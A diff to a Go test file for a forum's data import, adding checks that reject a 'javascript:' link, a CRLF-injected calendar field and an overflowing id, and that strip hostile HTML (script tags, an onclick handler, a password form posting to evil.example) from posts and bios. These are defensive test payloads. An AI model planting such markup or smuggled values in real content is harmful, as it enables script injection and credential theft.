@@ -336,7 +336,7 @@ func TestImportRefuses(t *testing.T) {
 		line := func(kind string) int {
 			return slices.IndexFunc(lines, func(l string) bool { return strings.HasPrefix(l, `{"type":"`+kind+`"`) })
 		}
-		member, post, comment, reaction := line("member"), line("post"), line("comment"), line("reaction")
+		member, post, comment, reaction, event := line("member"), line("post"), line("comment"), line("reaction"), line("event")
 		replace := func(old, new string) func(string) string {
 			return func(s string) string {
 				if !strings.Contains(s, old) {
@@ -368,6 +368,9 @@ func TestImportRefuses(t *testing.T) {
 			"no boolean":        {post, replace(`"locked":false`, `"locked":0`), "locked: 0 is neither"},
 			"no time":           {post, replace(`"edited_at":null`, `"edited_at":"yesterday"`), `edited_at: "yesterday" is not a time`},
 			"no string":         {post, replace(`"lang":"ko"`, `"lang":null`), "lang: null is not a string"},
+			"an id to end all":  {event, replace(`"id":1`, `"id":9223372036854775807`), "id: 9223372036854775807 cannot be"},
+			"link to a script":  {event, replace(`"link":""`, `"link":"javascript:alert(1)"`), "link: "},
+			"link of two lines": {event, replace(`"link":""`, `"link":"https://a.example/\r\nATTENDEE:x"`), "link: "},
 			"no author":         {post, replace(`"author_id":1`, `"author_id":99`), "author_id: there is no 99 in members"},
 			"no board":          {post, replace(`"board_id":1`, `"board_id":0`), "board_id: 0 cannot be"},
 			"order of ids":      {post + 1, replace(`"id":2`, `"id":1`), "id: 1 does not come after 1"},
@@ -406,6 +409,31 @@ func TestImportRefuses(t *testing.T) {
 		}
 		if _, err := to.Import(t.Context(), bytes.NewReader(data), store.ImportOptions{}); err != nil {
 			t.Errorf("after all that the right file is refused: %v", err)
+		}
+	})
+}
+
+// TestImportShowsNoScript: HTML that was out of our hands gets to nobody as it is.
+func TestImportShowsNoScript(t *testing.T) {
+	engines(t, func(t *testing.T, w *world) {
+		p := w.post("a title", "a text")
+		data, _ := w.export(t, store.ExportOptions{})
+		hostile := regexp.MustCompile(`"(bio_)?html":"[^"]*"`).ReplaceAll(data, []byte(`"${1}html":"<p onclick=alert(1)>kept<script>alert(2)</script><form action=https://evil.example><input name=password></form></p>"`))
+		if bytes.Equal(hostile, data) {
+			t.Fatal("nothing was changed")
+		}
+		url := pgtest.Database(t)
+		if w.Postgres() == nil {
+			url = "sqlite:" + filepath.Join(t.TempDir(), "to.db")
+		}
+		to := vacant(t, w, url)
+		must[store.Counts](t)(to.Import(t.Context(), bytes.NewReader(hostile), store.ImportOptions{}))
+		got := must[forum.Post](t)(to.Store.Post(t.Context(), p.ID))
+		member := must[forum.Member](t)(to.Store.MemberByHandle(t.Context(), "ann"))
+		for what, html := range map[string]string{"a post": got.HTML, "a bio": member.BioHTML} {
+			if html != "<p>kept</p>" {
+				t.Errorf("%s: %s", what, html)
+			}
 		}
 	})
 }
